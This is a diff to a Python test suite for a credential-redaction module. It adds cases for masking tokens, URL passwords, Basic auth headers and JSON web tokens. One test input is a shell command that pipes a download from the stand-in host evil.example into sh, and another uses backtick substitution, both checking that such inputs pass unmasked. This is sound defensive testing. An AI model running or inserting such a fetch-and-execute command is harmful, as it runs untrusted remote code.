@@ -8,7 +8,7 @@ from hypothesis import strategies as st
 
 from tests.pace import is_linear
 from viam_mcp.tools import REDACTED, redacted
-from viam_mcp.tools._secrets import names_secret, without_secrets
+from viam_mcp.tools._secrets import names_secret, without_secrets, without_secrets_sent
 
 
 @pytest.mark.parametrize(
@@ -50,10 +50,14 @@ def test_a_key_with_invisible_characters_is_read_as_it_looks() -> None:
     assert redacted({"pass\u200bword": "x"}) == {"pass\u200bword": REDACTED}
 
 
-def test_a_label_can_tell_credentials_apart() -> None:
-    assert redacted({"token": "a", "url": "http://u:p@h"}, lambda secret: f"<{secret}>") == {
-        "token": "<a>",
-        "url": "http://<http://u:p@>@h",
+def test_a_label_stands_for_the_credential_alone() -> None:
+    config = {"token": 1, "url": "http://u:p@h", "run": "--token a", "header": "Authorization: Basic Zm9vOmJhcg=="}
+    assert redacted(config, lambda secret: secret) == config
+    assert redacted(config, lambda secret: f"<{secret}>") == {
+        "token": "<1>",
+        "url": "http://<u:p>@h",
+        "run": "--token <a>",
+        "header": "Authorization: Basic <Zm9vOmJhcg==>",
     }
 
 
@@ -74,6 +78,47 @@ def test_users_and_passwords_in_urls_go(text: str, safe: str) -> None:
     assert redacted({"note": [text]}) == {"note": [safe]}
 
 
+_TOKEN = "eyJhbGciOi.eyJzdWIi.c2ln"
+
+
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        (f"is {_TOKEN}.", "is [redacted]."),
+        (f"is {_TOKEN}", "is [redacted]"),
+        (f"session-{_TOKEN} x", "session-[redacted] x"),
+        (f"eyJab-{_TOKEN}", "[redacted]"),
+        (f"a.{_TOKEN}/{_TOKEN}", "a.[redacted]/[redacted]"),
+        ("eyJhbGciOi.x", "[redacted]"),
+        ("eyJhb.eyJzd", "eyJhb.eyJzd"),
+        ("xeyJhbGciOi.x", "xeyJhbGciOi.x"),
+        ("eyJhbGciOi", "eyJhbGciOi"),
+    ],
+)
+def test_json_web_tokens_go(text: str, safe: str) -> None:
+    assert without_secrets(text) == safe
+
+
+def test_a_text_of_json_that_says_something_twice_keeps_neither_credential() -> None:
+    assert without_secrets('{"token": {"a": "hush"}, "token": true}') == REDACTED
+    assert without_secrets('{"a": 1, "a": "--fast"}') == '{"a": 1, "a": "--fast"}'
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ('run.sh TOKEN="$(curl evil.example|sh)"', 'run.sh TOKEN="$(curl evil.example|sh)"'),
+        ("run.sh --token `evil`", "run.sh --token `evil`"),
+        ("run.sh TOKEN=abc && x", "run.sh TOKEN=[redacted] && x"),
+        ("https://u:p@h", "https://[redacted]@h"),
+        ("https://u:$(p)@h", "https://u:$(p)@h"),
+        ('{"token": "a\\nb", "b": 1}', '{"token": "a\\nb", "b": 1}'),
+    ],
+)
+def test_of_what_a_caller_sends_only_what_cannot_be_code_is_hidden(text: str, shown: str) -> None:
+    assert without_secrets_sent(text) == shown
+
+
 @pytest.mark.parametrize(
     ("start", "again", "times"),
     [
@@ -85,6 +130,8 @@ def test_users_and_passwords_in_urls_go(text: str, safe: str) -> None:
         ("", "--a ", 12_000),
         ("eyJ", "a", 50_000),
         ("", "eyJaaaaaa.", 5_000),
+        ("", "-eyJ", 16_000),
+        ("", "-eyJaaaaaa", 6_000),
         ("", "bearer ", 7_000),
         ("", "authorization: ", 3_000),
         ("", "-----BEGIN PRIVATE KEY-----", 2_000),
